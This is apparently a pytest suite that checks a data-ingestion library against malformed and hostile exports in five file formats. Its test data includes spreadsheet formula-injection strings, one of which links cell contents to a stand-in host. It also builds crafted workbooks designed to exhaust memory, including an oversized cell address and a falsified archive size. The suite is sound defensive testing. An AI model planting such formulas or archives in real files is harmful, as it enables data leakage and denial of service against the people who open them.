"""The same bad exports in every format: cut off, in another order, repeated, hostile."""

from __future__ import annotations

import json
import sqlite3
import time
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from features.errors import DataError
from features.ingest import ingest
from features.settings import ReaderOptions
from features.sources import open_reader
from features.sources.workbooks import CELLS
from features.territory import Territory
from features.timelines import Timelines

pytestmark = pytest.mark.once

OPTIONS = ReaderOptions()
Rows = Sequence[dict[str, str]]
ROWS: Rows = [{"id": f"r{n}", "who": f"D{n % 3}", "day": f"2024-03-{n + 1:02d}"} for n in range(20)]


def as_csv(file: Path, rows: Rows) -> None:
    lines = [",".join(rows[0]), *(",".join(row.values()) for row in rows)]
    file.write_text("\n".join(lines) + "\n")


def as_jsonl(file: Path, rows: Rows) -> None:
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))


def as_excel(file: Path, rows: Rows) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    for line in [list(rows[0]), *(list(row.values()) for row in rows)]:
        book.active.append(line)
    book.save(file)


def as_parquet(file: Path, rows: Rows) -> None:
    pq.write_table(pa.Table.from_pylist(list(rows)), file)


def as_sqlite(file: Path, rows: Rows) -> None:
    base = sqlite3.connect(file)
    base.execute(f"CREATE TABLE t ({', '.join(rows[0])})")
    marks = ",".join("?" * len(rows[0]))
    base.executemany(f"INSERT INTO t VALUES ({marks})", [tuple(row.values()) for row in rows])
    base.commit()
    base.close()


WRITERS: dict[str, Callable[[Path, Rows], None]] = {
    "csv": as_csv,
    "jsonl": as_jsonl,
    "excel": as_excel,
    "parquet": as_parquet,
    "sqlite": as_sqlite,
}
KINDS = sorted(WRITERS)
TERRITORY = """\
features:
  observation: {{since: 2020-01-01, until: 2026-01-01}}
  sources:
    social:
      service: social
      reader: {kind}
      person: {{system: social, columns: who}}
      tables:
        - path: x
          {part}
          row_key: id
          events: [{{code: HEALTH//CARE//STARTED, time: day, recorded_at: day}}]
"""


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def events_of(folder: Path, kind: str, rows: Rows, name: str) -> tuple[list[object], int]:
    """The events of an export, without the persons, and how many rows were repeated."""
    home = folder / name
    home.mkdir()
    WRITERS[kind](home / "x", rows)
    part = "table: t" if kind == "sqlite" else "name: x"
    (home / "territory.yaml").write_text(TERRITORY.format(kind=kind, part=part))
    territory = Territory.open(home / "territory.yaml", home=home / "work", data=home)
    report = ingest(territory)
    assert report.failures == []
    table = Timelines.open(home / "work" / "timelines").read(columns=["event_id", "time"])
    return sorted(map(str, table.to_pylist())), report.sources[0].total("duplicates")


def test_columns_in_another_order_rows_in_another_order_and_rows_repeated_change_nothing(
    tmp_path: Path, kind: str
) -> None:
    plain, none = events_of(tmp_path, kind, ROWS, "plain")
    turned = [dict(reversed(row.items())) for row in ROWS]
    assert none == 0
    assert len(plain) == len(ROWS)
    assert events_of(tmp_path, kind, turned, "turned") == (plain, 0)
    assert events_of(tmp_path, kind, ROWS[::-1], "reversed") == (plain, 0)
    assert events_of(tmp_path, kind, [*ROWS, *ROWS[:7]], "repeated") == (plain, 7)


@pytest.mark.parametrize("kept", [0.1, 0.5, 0.97])
def test_a_file_that_is_cut_off_gives_whole_rows_or_its_name(
    tmp_path: Path, kind: str, kept: float
) -> None:
    file = tmp_path / "x"
    rows = [{"more": "y" * 200} | row for row in ROWS] * 20
    WRITERS[kind](file, rows)
    content = file.read_bytes()
    cut = int(len(content) * kept)
    if kind in ("csv", "jsonl"):
        cut = content.index(b"yyy", cut) + 2
    file.write_bytes(content[:cut])
    found: list[str] = []
    aside, said = 0, None
    try:
        part = "t" if kind == "sqlite" else None
        for batch in open_reader(kind, file, OPTIONS, part=part).batches(["id", "who", "day"]):
            found += batch.table["id"].to_pylist()
            aside += len(batch.aside)
    except DataError as error:
        said = str(error)
    assert said is None or "'x'" in said
    assert said is None or not any(row["who"] in said for row in ROWS)
    assert set(found) <= {row["id"] for row in rows}
    if kind in ("csv", "jsonl"):
        assert aside == 1
        assert len(found) < len(rows)


def test_what_looks_like_a_formula_is_a_text(tmp_path: Path, kind: str) -> None:
    values = ["=1+1", "+33", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1)', "-2+3"]
    rows = [{"id": value.replace(",", ""), "who": "D1"} for value in values]
    file = tmp_path / "x"
    WRITERS["jsonl" if kind == "csv" else kind](file, rows)
    if kind == "csv":
        quoted = ('"' + row["id"].replace('"', '""') + '",D1' for row in rows)
        file.write_text("id,who\n" + "\n".join(quoted) + "\n")
    if kind == "excel":
        book = openpyxl.Workbook()
        assert book.active is not None
        book.active.append(["id"])
        for place, row in enumerate(rows, start=2):
            book.active.cell(place, 1, row["id"]).data_type = "s"
        book.save(file)
    part = "t" if kind == "sqlite" else None
    (batch,) = open_reader(kind, file, OPTIONS, part=part).batches(["id"])
    assert batch.table["id"].to_pylist() == [row["id"] for row in rows]


def test_a_formula_of_excel_gives_what_was_stored_and_is_not_computed(tmp_path: Path) -> None:
    file = tmp_path / "x.xlsx"
    as_excel(file, [{"id": "=1+1", "who": "D1"}, {"id": "=WEBSERVICE(A1)", "who": "D2"}])
    changed(file, lambda sheet: sheet.replace(b"1+1</f><v />", b"1+1</f><v>7</v>"))
    (batch,) = open_reader("excel", file, OPTIONS).batches(["id", "who"])
    assert batch.table["id"].to_pylist() == ["7", None]


# Workbooks that are small on the disk and large in memory


def changed(file: Path, change: Callable[[bytes], bytes]) -> None:
    """Change the first sheet inside a workbook."""
    with zipfile.ZipFile(file) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in parts.items():
            sheet = name == "xl/worksheets/sheet1.xml"
            book.writestr(name, change(content) if sheet else content)


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    file = tmp_path / "x.xlsx"
    as_excel(file, ROWS)
    return file


def refused(file: Path, said: str) -> None:
    began = time.process_time()
    with pytest.raises(DataError, match=said):
        open_reader("excel", file, OPTIONS)
    assert time.process_time() - began < 60


@pytest.mark.parametrize("cell", [b'r="XFD1048576"', b"r='XFD1048576'", b'r = "xfd1048576"'])
def test_two_cells_in_opposite_corners_are_refused(workbook: Path, cell: bytes) -> None:
    end = b"</sheetData>"
    row = b'<row r="1048576"><c ' + cell + b"><v>1</v></c></row>"
    changed(workbook, lambda sheet: sheet.replace(end, row + end))
    refused(workbook, f"a sheet of at most {CELLS} cells")


def test_a_cell_s_address_across_two_pieces_is_seen(workbook: Path) -> None:
    end = b"</sheetData>"
    row = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'

    def change(sheet: bytes) -> bytes:
        head, _, tail = sheet.partition(end)
        padding = (4 << 20) - len(head) - row.index(b"XFD") - 5
        return head + b" " * padding + row + end + tail

    changed(workbook, change)
    refused(workbook, f"a sheet of at most {CELLS} cells")


def test_a_part_that_grows_is_refused_whatever_the_archive_says(
    workbook: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("features.sources.workbooks.CONTENT", 8 << 20)
    with zipfile.ZipFile(workbook, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/media/image.xml", b" " * (40 << 20))
    refused(workbook, "bytes of content; got more")
    # The size that the directory of the archive tells is 100 bytes now.
    content = workbook.read_bytes()
    told = (40 << 20).to_bytes(4, "little")
    assert told in content
    workbook.write_bytes(content.replace(told, (100).to_bytes(4, "little")))
    refused(workbook, "bytes of content; got more")


@pytest.mark.parametrize("member", ["content.xml", "word/document.xml", "xl/worksheets/sheet1.bin"])
def test_other_documents_and_binary_workbooks_are_refused(tmp_path: Path, member: str) -> None:
    file = tmp_path / "x.xlsx"
    with zipfile.ZipFile(file, "w") as book:
        book.writestr(member, b"<x/>")
    refused(file, r"an Excel workbook \(\.xlsx, \.xlsm or \.xls\)")
